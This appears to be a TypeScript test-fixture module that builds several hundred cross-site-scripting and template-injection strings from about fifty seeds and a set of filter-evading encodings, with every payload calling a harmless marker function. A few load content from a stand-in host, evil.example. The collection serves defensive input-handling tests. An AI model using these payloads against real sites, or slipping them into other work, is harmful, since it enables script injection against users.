/** Texts that call the page's function `pwned` if they are interpreted as markup, a URL, a template or code. */
const SEEDS = [
  '<script>pwned()</script>',
  '<script src=data:text/javascript,pwned()></script>',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x>',
  '<svg><a href="javascript:pwned()"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>',
  '<body onload=pwned()>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">x</a>',
  '<a href="java&#115;cript:pwned()">x</a>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<button formaction="javascript:pwned()">x</button>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<template><img src=x onerror=pwned()></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<p style="animation-name:x" onanimationstart=pwned()>',
  '<marquee onstart=pwned()>',
  '</title><img src=x onerror=pwned()>',
  '</textarea><img src=x onerror=pwned()>',
  '</script><script>pwned()</script>',
  '--><img src=x onerror=pwned()>',
  ']]><img src=x onerror=pwned()>',
  'javascript:pwned()',
  'data:text/html,<script>parent.pwned()</script>',
  '{{constructor.constructor("pwned()")()}}',
  '{{$on.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
  '${pwned()}',
  '#{pwned()}',
  '<%= pwned() %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
  '[[${pwned()}]]',
  "'-pwned()-'",
  '";pwned();"',
  '`-pwned()-`',
  '__proto__',
  '{"__html":"<img src=x onerror=pwned()>"}',
]

/** Encodings of a text that a filter may overlook or a decoder may undo. */
const DISGUISES: ((text: string) => string)[] = [
  text => text,
  text => text.toUpperCase().replaceAll('PWNED', 'pwned'),
  text => `"> ${text}`,
  text => `'> ${text}`,
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '&amp;lt;'),
  text => encodeURI(text),
  text => text.replaceAll('<', '\\u003c'),
  text => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  text => `\u202e${text}\u202c`,
  text => text.replace('script', 'scr\u200dipt'),
  text => `e${'\u0301'.repeat(20)}${text}`,
  text => `😀${text}ﷺ`,
]

/** Several hundred distinct texts that call `pwned` if they are interpreted as markup, a URL, a template or code. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(DISGUISES.flatMap(disguise => SEEDS.map(seed => disguise(seed).trim()))),
]

/** The hostile texts that are short enough for a name. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE_TEXTS.filter(text => text.length <= 128)
